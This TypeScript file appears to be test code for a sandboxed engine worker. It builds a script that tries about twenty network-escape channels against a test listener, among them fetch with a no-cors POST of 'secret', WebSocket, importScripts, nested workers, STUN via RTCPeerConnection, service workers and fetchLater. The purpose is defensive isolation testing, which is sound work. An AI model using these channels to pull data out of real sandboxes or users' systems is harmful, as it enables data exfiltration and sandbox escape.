/** Code for the engine's own worker: what a bad crate, or a flaw in a reader, could do there at worst. */
import type { Target } from "./attack";

/** Attempts, each a text that runs in the worker with `to` in scope. */
const ATTEMPTS: Record<string, string> = {
  fetch: "fetch(to.url)",
  "fetch no-cors": "fetch(to.url, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true })",
  XMLHttpRequest: "{ const r = new XMLHttpRequest(); r.open('GET', to.url); r.send(); }",
  "XMLHttpRequest at once": "{ const r = new XMLHttpRequest(); r.open('GET', to.url, false); r.send(); }",
  WebSocket: "new WebSocket(to.ws)",
  EventSource: "new EventSource(to.url)",
  WebTransport: "new WebTransport(to.url.replace('http:', 'https:'))",
  importScripts: "importScripts(to.url)",
  "import()": "import(to.url)",
  "nested worker": "new Worker(to.url)",
  "fetch in a nested worker": "new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to.url)})`])))",
  "nested module worker": "new Worker(URL.createObjectURL(new Blob([`import ${JSON.stringify(to.url)}`])), { type: 'module' })",
  font: "{ const f = new FontFace('x', `url(${to.url})`); self.fonts?.add(f); f.load(); }",
  STUN: "{ const c = new RTCPeerConnection({ iceServers: [{ urls: to.stun }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }",
  cache: "caches.open('x').then((c) => c.add(to.url))",
  "service worker": "navigator.serviceWorker.register(to.url)",
  "wasm streaming": "WebAssembly.compileStreaming(fetch(to.url))",
  fetchLater: "fetchLater(to.url)",
  location: "self.location.href = to.url",
  "window.open": "self.open(to.url)",
};

/** Builds the worker's text; it tells the frame how many it tried, so that the test knows that it ran. */
export async function workerAttempts(towards: (attempt: string, target: "listener" | "name") => Promise<Target>): Promise<string> {
  let text = "let tried = 0;\n";
  for (const [name, code] of Object.entries(ATTEMPTS)) {
    for (const target of ["listener", "name"] as const) {
      const to = JSON.stringify(await towards(name, target));
      text += `try { const to = ${to}; Promise.resolve((() => { ${code.startsWith("{") ? code : `return ${code};`} })()).catch(() => {}); } catch {} tried += 1;\n`;
    }
  }
  return `(() => {\n${text}self.postMessage({ hostileTried: tried });\n})();`;
}
